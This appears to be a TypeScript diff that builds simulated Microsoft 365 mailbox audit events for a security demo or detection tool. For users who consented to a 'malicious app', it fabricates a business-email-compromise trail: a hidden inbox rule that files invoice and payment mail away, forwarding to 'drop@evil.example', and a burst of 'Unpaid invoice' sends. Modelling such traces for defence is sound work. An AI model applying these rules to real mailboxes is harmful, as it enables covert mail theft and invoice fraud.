@@ -1,0 +1,54 @@
+import type { Grant } from './belongings.ts'
+import { apps, chanceOf, grantsOf, type Owner } from './belongings.ts'
+
+/** Something that happened in a mailbox, as Microsoft 365 audits it. */
+export interface MailEvent {
+  readonly operation: string
+  /** ISO 8601. */
+  readonly at: string
+  readonly type?: 'exchangeAdmin' | 'exchangeItem'
+  /** As given with a cmdlet. */
+  readonly parameters?: Readonly<Record<string, string>>
+  /** As Outlook reports it, in its place. */
+  readonly properties?: Readonly<Record<string, string>>
+  /** Of a message; audited, though nobody needs to read it. */
+  readonly subject?: string
+}
+
+type MailOwner = Owner & {
+  readonly grants: readonly Grant[] | undefined
+  readonly mailEvents: readonly MailEvent[] | undefined
+}
+
+const hour = 3_600_000
+
+/** What happened in somebody's mailbox lately: whoever consented to the malicious app had a rule made and messages sent. */
+export function mailEventsOf(person: MailOwner, now: number): readonly MailEvent[] {
+  if (person.mailEvents) return person.mailEvents
+  if (person.userType === 'Guest') return []
+  const chance = chanceOf(person, 6)
+  const ago = (hours: number) => new Date(now - hours * hour).toISOString()
+  const messages = (count: number, subject: string): MailEvent[] =>
+    Array.from({ length: count }, (_, index) => ({
+      operation: 'Send',
+      at: ago(3 + 5 * index),
+      type: 'exchangeItem',
+      subject,
+    }))
+  const usual = messages(Math.floor(chance() * 8), 'Minutes')
+  if (!grantsOf(person).some(({ clientId }) => clientId === apps.mailSync.id)) return usual
+  return [
+    ...usual,
+    {
+      operation: 'New-InboxRule',
+      at: ago(40),
+      parameters: { Name: '..', MoveToFolder: 'RSS Feeds', SubjectOrBodyContainsWords: 'invoice;payment' },
+    },
+    {
+      operation: 'Set-Mailbox',
+      at: ago(38),
+      parameters: { Identity: 'me', ForwardingSmtpAddress: 'smtp:drop@evil.example' },
+    },
+    ...messages(12, 'Unpaid invoice'),
+  ]
+}
